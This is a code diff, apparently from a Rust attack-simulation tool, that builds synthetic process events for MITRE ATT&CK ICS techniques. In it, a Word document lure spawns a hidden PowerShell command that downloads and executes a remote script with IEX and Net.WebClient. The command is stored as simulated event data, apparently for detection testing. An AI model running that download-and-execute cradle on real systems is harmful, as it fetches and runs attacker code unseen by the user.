@@ -190,18 +190,22 @@ impl Access {
                 source: Some(from),
                 success: true,
             }],
-            "T0865" => vec![process(
-                WINWORD,
-                &format!(r#""{WINWORD}" /n C:\Users\{local}\Downloads\invoice.doc"#),
-                r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
-                &local,
-            )],
-            "T0863" => vec![process(
-                POWERSHELL,
-                "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString($u)",
-                WINWORD,
-                &local,
-            )],
+            // The mail is delivered (T0865); it is opened, and the macro starts its implant,
+            // on the victim's machine (T0863).
+            "T0863" => vec![
+                process(
+                    WINWORD,
+                    &format!(r#""{WINWORD}" /n C:\Users\{local}\Downloads\invoice.doc"#),
+                    r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
+                    &local,
+                ),
+                process(
+                    POWERSHELL,
+                    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString($u)",
+                    WINWORD,
+                    &local,
+                ),
+            ],
             "T0817" => vec![process(
                 &format!(r"C:\Users\{local}\Downloads\install_flash_player.exe"),
                 "install_flash_player.exe",
@@ -238,7 +242,7 @@ impl Access {
     }
 }
 
-/// Word, whose documents carry the lures of T0865 and start the implants of T0863.
+/// Word, whose documents carry the lures of T0865 and, opened, start the implants of T0863.
 const WINWORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
 /// PowerShell, the interpreter lures and operators alike start.
 const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
